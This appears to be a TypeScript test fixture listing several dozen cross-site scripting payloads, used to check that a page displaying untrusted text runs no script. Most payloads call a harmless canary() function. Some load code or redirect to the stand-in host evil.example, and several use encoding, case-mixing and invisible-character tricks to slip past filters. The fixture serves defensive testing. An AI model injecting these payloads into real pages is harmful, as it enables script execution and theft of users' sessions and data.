const bidi = '\u202E';
const isolate = '\u2066';
const zeroWidth = '\u200B';
const joiner = '\u2060';

/**
 * Texts with which candidates and other systems could try to run a script in a page that shows them. Each script that ran would
 * call `canary()`, or request something of evil.example.
 */
export const hostileTexts: readonly string[] = [
  '<script>canary()</script>',
  '"><script>canary()</script>',
  "';canary();//",
  '</title><script>canary()</script>',
  '</textarea><script>canary()</script>',
  '<!--><script>canary()</script-->',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=canary()>',
  '<img src=x onerror="canary()"//',
  '<IMG SRC=x OnErRoR=canary()>',
  '<img/src/onerror=canary()>',
  '" onfocus=canary() autofocus="',
  "' onmouseover='canary()' style='position:fixed;inset:0",
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:canary()"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<template><img src=x onerror=canary()></template>',
  '<form><button formaction=javascript:canary()>Press</button></form>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<iframe src="javascript:canary()"></iframe>',
  '<object data="javascript:canary()"></object>',
  '<details open ontoggle=canary()>',
  '<body onload=canary()>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  'javascript:canary()',
  'JaVaScRiPt&colon;canary()',
  ' \tjavascript:canary()',
  'data:text/html,<script>canary()</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'vbscript:canary()',
  'blob:https://evil.example/x',
  'https://evil.example/"onclick="canary()',
  'https://bank.nl@evil.example/<script>canary()</script>',
  '[Press](javascript:canary())',
  '{{constructor.constructor("canary()")()}} ${canary()} #{canary()}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=canary()>"}}',
  '&lt;script&gt;canary()&lt;/script&gt; &#60;script&#62;',
  `${bidi}gpj.exe${isolate} ${zeroWidth}java${joiner}script:canary()`,
  `Ṫ${'\u0301'.repeat(40)} <b onclick=canary()>loud</b>`,
  `${'W'.repeat(2000)}<script>canary()</script>`,
];
